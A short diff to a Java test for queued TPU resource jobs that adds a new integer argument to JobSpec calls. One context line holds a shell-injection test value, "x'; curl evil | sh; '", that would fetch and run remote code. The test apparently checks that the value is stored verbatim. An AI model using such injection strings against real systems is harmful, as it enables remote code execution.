@@ -75,7 +75,7 @@ final class QueuedResourceJobsTest {
     String evil = "x'; curl evil | sh; '";
     JobSpec job =
         new JobSpec(
-            "b7", evil, Optional.of(Accelerator.parse("v5e-16")), IMAGE, "gs://bucket/run", 1);
+            "b7", evil, Optional.of(Accelerator.parse("v5e-16")), IMAGE, "gs://bucket/run", 1, 1);
     jobs.submit(job);
     Node node = service.resource("b7").getTpu().getNodeSpec(0).getNode();
     assertEquals(evil, node.getMetadataOrThrow("noisystudent-config"));
@@ -229,6 +229,7 @@ final class QueuedResourceJobsTest {
         Optional.of(Accelerator.parse(accelerator)),
         IMAGE,
         "gs://bucket/runs/b7-teacher",
-        20);
+        20,
+        1);
   }
 }
